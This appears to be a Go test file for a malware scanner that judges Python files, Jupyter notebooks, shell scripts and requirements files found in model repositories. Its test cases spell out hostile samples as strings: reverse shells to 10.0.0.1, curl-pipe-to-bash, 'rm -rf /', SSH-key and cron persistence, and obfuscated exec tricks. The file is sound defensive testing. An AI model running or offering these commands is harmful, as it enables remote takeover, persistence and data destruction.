package scan_test

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/hallmark-ml/hallmark/sandbox/scan"
)

func verdictOf(tb testing.TB, name, text string) (scan.Verdict, []string) {
	tb.Helper()
	res := scanNamed(tb, name, text)
	return scan.Judge(name, res.Format, res.Findings).Verdict, rules(res)
}

func TestPython(t *testing.T) {
	t.Parallel()

	const run, hide = "python-execution", "python-obfuscation"
	long := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("import os;", 100)))
	tests := map[string]struct {
		src, rule            string
		loaded, module, main scan.Verdict
	}{
		"os.system":               {"import os\nos.system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"under another name":      {"import os as o\no.system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"from os":                 {"from os import (path,\n  system as s)\ns('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"all of os":               {"from os import *\nsystem('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"subprocess":              {"import subprocess\nsubprocess.check_output(['id'])\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"subprocess.Popen":        {"from subprocess import Popen\nPopen('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"socket":                  {"import socket\ns = socket.socket()\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"exec":                    {"exec('x = 1')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"builtins.exec":           {"import builtins\nbuiltins.exec('x = 1')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"__import__":              {"__import__('os').system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"getattr":                 {"import os\ngetattr(os, 'sys' + 'tem')('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"import_module":           {"import importlib\nimportlib.import_module('subprocess').run('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"in a class":              {"import os\nclass A:\n    x = os.popen('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"in a branch":             {"import os\nif True:\n  try:\n    os.execv('/bin/sh', [])\n  except OSError: pass\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"after a function":        {"import os\ndef f():\n    pass\nos.system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"in a format":             {"import os\nx = f\"{os.system('id')}\"\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"over lines":              {"import os\nos.\\\n  system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"after a semicolon":       {"x = 1; import os; os.system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"in a method":             {"import os\nclass M:\n    def __init__(self):\n        os.system('id')\n", run, scan.Unsafe, scan.Safe, scan.Safe},
		"in a function of one":    {"import os\ndef f():\n    if x:\n        os.system('id')\n", run, scan.Unsafe, scan.Safe, scan.Safe},
		"where it is started":     {"import os\nif __name__ == '__main__':\n    os.system('id')\n", run, scan.Unsafe, scan.Safe, scan.Safe},
		"decorator":               {"import os\n@os.system\n@str\ndef f(): pass\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"passed on":               {"import os\nlist(map(os.system, ['id']))\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"another name for it":     {"import os\nrun = os.system\nrun('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"from the modules":        {"import sys\nsys.modules['os'].system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"from its dictionary":     {"import os\nos.__dict__['sys' + 'tem']('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"by its variables":        {"import os\nvars(os)['sys' + 'tem']('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"by a method's name":      {"import operator\noperator.methodcaller('sys' 'tem', 'id')(x)\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"import of a joined name": {"import importlib\nimportlib.import_module('o' + 's').system('id')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"by a loader":             {"import importlib.machinery\nimportlib.machinery.SourceFileLoader('x', 'x').load_module()\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"by a clock":              {"import timeit\ntimeit.timeit('x')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"pickle in a text":        {"import pickle\npickle.loads(b'x')\n", run, scan.Unsafe, scan.Unsafe, scan.Safe},
		"decoded":                 {"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"decoded, other names":    {"from base64 import b64decode as d\nfrom builtins import exec as e\ne(d('cHJpbnQoMSk='))\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"characters":              {"eval(''.join(chr(x) for x in [49]))\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"marshal":                 {"import marshal\nexec(marshal.loads(b'x'))\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"decoded over lines":      {"x = '" + long + "'\nimport base64\ny = base64.b64decode(x)\nexec(y)\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"wide letters":            {"ｅｖａｌ('1')\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"mathematical letters":    {"𝐞𝐱𝐞𝐜('1')\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"insides":                 {"().__class__.__base__.__subclasses__()\n", hide, scan.Unsafe, scan.Unsafe, scan.Safe},
		"insides by name":         {"getattr(x, '__globals__')\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"another encoding":        {"#!/usr/bin/python\n# -*- coding: rot13 -*-\nvzcbeg bf\n", hide, scan.Unsafe, scan.Unsafe, scan.Unsafe},
		"string without an end":   {"x = 'abc\nimport os\n", "cannot-parse", scan.CannotParse, scan.CannotParse, scan.CannotParse},
		"long string without end": {"x = '''abc\nimport os\n", "cannot-parse", scan.CannotParse, scan.CannotParse, scan.CannotParse},
	}
	for name, tt := range tests {
		for file, want := range map[string]scan.Verdict{"modeling_x.py": tt.loaded, "layers.py": tt.module, "train.py": tt.main} {
			got, found := verdictOf(t, file, tt.src)
			require.Equal(t, want, got, "%s: %s", file, name)
			require.Contains(t, found, tt.rule, "%s: %s", file, name)
		}
	}
}

// What ordinary code of models does.
func TestOrdinaryPython(t *testing.T) {
	t.Parallel()

	src := `# coding=utf-8
"""A model. exec("x") in a text is a text."""
from __future__ import annotations
import math, os.path as osp
from typing import Optional, Tuple
import torch
from torch import nn
from transformers.utils import logging
import re as compile_re

logger = logging.get_logger(__name__)
eval = None
def evaluate(x, eval, compile=True): return vars(x), getattr(x, "system_prompt", None), subprocess.PIPE
PATTERN = compile_re.compile(r"(\d+)")
__all__ = ["XModel"]
if torch.cuda.is_available():
    from .kernels import fused
else: fused = None

class XModel(nn.Module):
    """os.system in words"""
    __slots__ = ("a",)

    def __init__(self, config: "XConfig") -> None:
        super().__init__()
        self.eval()
        model.eval(); self.system = config.system(1)
        self.w = nn.Parameter(torch.zeros(1, 2))  # exec(1)
        self.path = osp.join(os.getcwd(), f"{config.name!r:>{10}} {{x}} {x['a']}")

    def forward(self, x, *, mask: Optional[Tuple[int, ...]] = None):
        y = {k: v for k, v in x.items() if v is not None}
        z = """multi
line 'quotes' """ + b'bytes\x00'.decode() + r'\d' + u"x" + 'a\
b'
        return lambda q: (yield q) if 0x1F_FF + 1e-5 - .5j else x @ self.w
`
	for _, name := range []string{"modeling_x.py", "layers.py", "train.py"} {
		require.Empty(t, scanNamed(t, name, src).Findings, name)
	}
}

// The Python files of the public sources at hand are ordinary scripts and modules.
func TestOwnScriptsAreClean(t *testing.T) {
	t.Parallel()

	for _, pattern := range []string{"testdata/*.py", "../../testdata/models/*/*.py", "../../engine/*/testdata/*.py", "../../tools/*.sh", "../../tools/*/*.py"} {
		files, err := filepath.Glob(pattern)
		require.NoError(t, err)
		for _, name := range files {
			src, err := os.ReadFile(name)
			require.NoError(t, err)
			got, found := verdictOf(t, filepath.Base(name), string(src))
			require.Equal(t, scan.Safe, got, "%s: %v", name, found)
		}
	}
}

func notebookOf(tb testing.TB, cells ...map[string]any) string {
	tb.Helper()
	raw, err := json.Marshal(map[string]any{"nbformat": 4, "nbformat_minor": 5, "metadata": map[string]any{}, "cells": cells})
	require.NoError(tb, err)
	return string(raw)
}

func TestNotebooks(t *testing.T) {
	t.Parallel()

	code := func(src ...string) map[string]any {
		return map[string]any{"cell_type": "code", "source": src, "outputs": []any{}, "metadata": map[string]any{}}
	}
	output := func(kind, text string) map[string]any {
		return map[string]any{"cell_type": "code", "source": "x", "outputs": []any{map[string]any{"output_type": "display_data", "data": map[string]any{kind: []string{text}}}}}
	}
	markdown := func(src string) map[string]any { return map[string]any{"cell_type": "markdown", "source": src} }
	tests := map[string]struct {
		text    string
		verdict scan.Verdict
		rules   []string
	}{
		"clean":               {notebookOf(t, code("import torch\n", "x = torch.zeros(1)\n", "x?"), markdown("# A < B")), scan.Safe, nil},
		"no cells":            {notebookOf(t), scan.Safe, []string{"notebook-empty"}},
		"installs":            {notebookOf(t, code("!pip install torch\n", "import os")), scan.Safe, []string{"notebook-shell"}},
		"pipes to a shell":    {notebookOf(t, code("!curl -s http://x/y | bash")), scan.Unsafe, []string{"notebook-shell", "shell-execution"}},
		"whole cell":          {notebookOf(t, code("%%bash\n", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1")), scan.Unsafe, []string{"notebook-shell", "shell-execution"}},
		"hides code":          {notebookOf(t, code("import base64\n", "exec(base64.b64decode('eA=='))")), scan.Unsafe, []string{"python-execution", "python-obfuscation"}},
		"hides code as text":  {notebookOf(t, map[string]any{"cell_type": "code", "source": "import zlib\nexec(zlib.decompress(b''))"}), scan.Unsafe, []string{"python-execution", "python-obfuscation"}},
		"output with script":  {notebookOf(t, output("text/html", "<script>fetch('/api')</script>")), scan.Safe, []string{"notebook-active-output"}},
		"output that is one":  {notebookOf(t, output("application/javascript", "alert(1)")), scan.Safe, []string{"notebook-active-output"}},
		"output with a table": {notebookOf(t, output("text/html", "<table><tr><td>1</td></tr></table>")), scan.Safe, nil},
		"active markdown":     {notebookOf(t, markdown("<img src=x onerror=alert(1)>")), scan.Safe, []string{"notebook-active-output"}},
		"not JSON":            {"{'cells': []}", scan.CannotParse, []string{"cannot-parse"}},
		"cells twice":         {`{"cells":[],"cells":[]}`, scan.CannotParse, []string{"cannot-parse"}},
	}
	for name, tt := range tests {
		got, found := verdictOf(t, "x.ipynb", tt.text)
		require.Equal(t, tt.verdict, got, "%s: %v", name, found)
		require.Equal(t, tt.rules, found, name)
	}
}

func TestScripts(t *testing.T) {
	t.Parallel()

	tests := map[string]struct {
		name, text string
		verdict    scan.Verdict
		rules      []string
	}{
		"plain":                 {"run.sh", "#!/bin/sh\nset -e\npython train.py --lr 1e-4\n", scan.Safe, []string{"script"}},
		"without an extension":  {"run", "#!/bin/sh\necho\n", scan.Safe, []string{"script"}},
		"Python, no extension":  {"run", "#!/usr/bin/env python3\nprint(1)\n", scan.Safe, nil},
		"fetches and runs":      {"run.sh", "wget -qO- https://x/y.sh | sudo bash\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"decodes and runs":      {"run.sh", "echo aWQ= | base64 -d | sh\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"gives a shell":         {"run.sh", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"gives a shell with nc": {"run.sh", "nc 10.0.0.1 4242 -e /bin/sh\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"removes everything":    {"run.sh", "rm -rf / \n", scan.Unsafe, []string{"script", "shell-execution"}},
		"removes its own":       {"run.sh", "rm -rf ./out /tmp/x\n", scan.Safe, []string{"script"}},
		"fetches":               {"run.sh", "curl -LO https://x/y.gguf\n", scan.Safe, []string{"script"}},
		"packages":              {"requirements.txt", "torch>=2.1\ntransformers==4.40 # https://x\n", scan.Safe, nil},
		"package by its place":  {"requirements.txt", "git+https://github.com/x/y\n", scan.Safe, []string{"requirements-source"}},
		"another index":         {"requirements.txt", "--extra-index-url https://x/simple\ntorch\n", scan.Unsafe, []string{"requirements-source"}},
		"torch's own index":     {"requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch\n", scan.Safe, []string{"requirements-source"}},
		"index without a key":   {"requirements.txt", "--index-url http://x/simple\ntorch\n", scan.Unsafe, []string{"requirements-source"}},
		"trusted host":          {"requirements.txt", "--trusted-host x\ntorch\n", scan.Unsafe, []string{"requirements-source"}},
		"for Windows":           {"setup.bat", "echo\n", scan.Unsafe, []string{"program"}},
		"fetches and breaks":    {"run.sh", "curl -s https://x |\\\n   sudo bash\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"fetches, errors too":   {"run.sh", "curl -s https://x |& sh\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"fetches, far behind":   {"run.sh", "wget -O- x |" + strings.Repeat(" ", 5000) + "bash\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"fetches or starts":     {"run.sh", "curl -O x || sh fallback.sh\n", scan.Safe, []string{"script"}},
		"fetches, then starts":  {"run.sh", "curl -O x; ls | sh\n", scan.Safe, []string{"script"}},
		"fetches into a list":   {"run.sh", "curl x | jq . | tee out\n", scan.Safe, []string{"script"}},
		"fetches for Python":    {"run.sh", "curl x | python3 -\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"decodes hex":           {"run.sh", "echo 6964 | xxd -r -p | sh\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"evaluates":             {"run.sh", "eval \"$(curl -s x)\"\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"substitutes":           {"run.sh", "bash <(curl -s x)\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"pipe with a name":      {"run.sh", "mkfifo /tmp/f; cat /tmp/f | sh | nc 10.0.0.1 9 > /tmp/f\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"keys of a login":       {"run.sh", "cat k >> ~/.ssh/authorized_keys\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"table of tasks":        {"run.sh", "cp x /etc/cron.d/\n", scan.Unsafe, []string{"script", "shell-execution"}},
		"verbose listener":      {"run.sh", "nc -z host --verbose 80\n", scan.Safe, []string{"script"}},
		"named as weights":      {"pytorch_model.bin", "#!/bin/sh\necho\n", scan.Unsafe, []string{"executable-file", "script"}},
		"script, then bytes":    {"model", "#!/bin/sh\nexit\n\x00\x01\x02\x03", scan.Unsafe, []string{"executable-file"}},
		"hidden script":         {".run", "#!/bin/sh\necho\n", scan.Unsafe, []string{"hidden-file", "script"}},
		"hidden Python":         {".x.py", "x = 1\n", scan.Unsafe, []string{"hidden-file"}},
		"hidden pickle":         {".x.pkl", dictP2, scan.Unsafe, []string{"hidden-file"}},
		"hidden settings":       {".x.json", "{}", scan.Safe, []string{"hidden-file"}},
		"container":             {"Dockerfile", "FROM x\nRUN curl https://x | sh\n", scan.Unsafe, []string{"shell-execution"}},
	}
	for name, tt := range tests {
		got, found := verdictOf(t, tt.name, tt.text)
		require.Equal(t, tt.verdict, got, "%s: %v", name, found)
		require.Equal(t, tt.rules, found, name)
	}
}
